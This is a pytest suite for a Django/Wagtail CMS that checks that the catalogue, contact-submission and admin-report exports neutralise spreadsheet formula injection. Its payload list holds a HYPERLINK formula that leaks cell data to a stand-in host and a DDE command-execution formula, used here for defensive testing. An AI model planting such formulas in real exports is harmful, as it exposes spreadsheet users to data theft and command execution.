"""No export hands a spreadsheet a formula: ours and the Wagtail admin's."""

import csv
import io

import pytest
from django.core import mail
from openpyxl import load_workbook

from cms.exports import neutralise, restore
from cms.models import ContactPage
from credentials.services import import_credentials, parse_file
from tests.credentials.factories import make_credential

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def streamed(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def cells_of_csv(response):
    text = streamed(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def cells_of_xlsx(response):
    sheet = load_workbook(io.BytesIO(streamed(response))).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells, payloads):
    for payload in payloads:
        assert payload not in cells, payload
        assert "'" + payload in cells, payload
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_neutralise_and_restore():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
        assert restore(neutralise(payload)) == payload
    assert neutralise("Plain text") == "Plain text"
    assert neutralise(-3) == -3
    assert restore("'quoted") == "'quoted"


def test_the_catalogue_csv_export_neutralises_formulas(client, home_page):
    make_credential(
        PAYLOADS[0],
        description=PAYLOADS[1],
        learning_outcomes=PAYLOADS[2],
        assessment=PAYLOADS[3],
        prerequisites=PAYLOADS[4],
        pathway=PAYLOADS[5],
        endorsements=PAYLOADS[6],
    )
    response = client.get("/catalogue/export.csv")
    assert response.status_code == 200
    assert_neutralised(cells_of_csv(response), PAYLOADS)


def test_the_catalogue_export_reimports_with_the_values_it_had(client, home_page):
    from credentials.models import MicroCredential

    entry = make_credential("=1+1 risky title", description="@mention first")
    exported = streamed(client.get("/catalogue/export.csv"))
    report = import_credentials(rows=parse_file(exported, "export.csv"))
    assert report.updated == 1
    entry = MicroCredential.objects.get(pk=entry.pk)
    assert entry.title == "=1+1 risky title"
    assert entry.description == "@mention first"


@pytest.fixture
def contact_submissions(client, home_page, django_capture_on_commit_callbacks):
    """Anonymous visitors' messages with formulas in every free-text field."""
    for number, payload in enumerate(PAYLOADS):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                "/contact/",
                {
                    "your_name": payload,
                    "your_email": f"visitor{number}@example.com",
                    "organisation": payload,
                    "message": payload,
                    "website": "",
                },
                REMOTE_ADDR=f"10.0.0.{number + 1}",
            )
        assert response.status_code == 200
    assert len(mail.outbox) == len(PAYLOADS)
    return ContactPage.objects.get()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_contact_submissions_export_neutralises_formulas(
    client, contact_submissions, staff_with_mfa, fmt
):
    client.force_login(staff_with_mfa)
    response = client.get(
        f"/admin/forms/submissions/{contact_submissions.pk}/?export={fmt}"
    )
    assert response.status_code == 200
    cells = cells_of_csv(response) if fmt == "csv" else cells_of_xlsx(response)
    # The form strips leading whitespace, so "\t=1+1" is stored as "=1+1".
    assert_neutralised(cells, [payload.strip() for payload in PAYLOADS])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_reports_neutralise_formulas_too(client, home_page, staff_with_mfa, fmt):
    from cms.models import StandardPage

    staff_with_mfa.first_name = "=HYPERLINK(1)"
    staff_with_mfa.save()
    page = home_page.add_child(instance=StandardPage(title="@SUM(1,2) notes"))
    page.save_revision(user=staff_with_mfa).publish(user=staff_with_mfa)
    client.force_login(staff_with_mfa)
    response = client.get(f"/admin/reports/site-history/?export={fmt}")
    assert response.status_code == 200
    cells = cells_of_csv(response) if fmt == "csv" else cells_of_xlsx(response)
    assert any(str(cell).startswith("'@SUM(1,2) notes") for cell in cells)
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(("=", "+", "-", "@")), cell
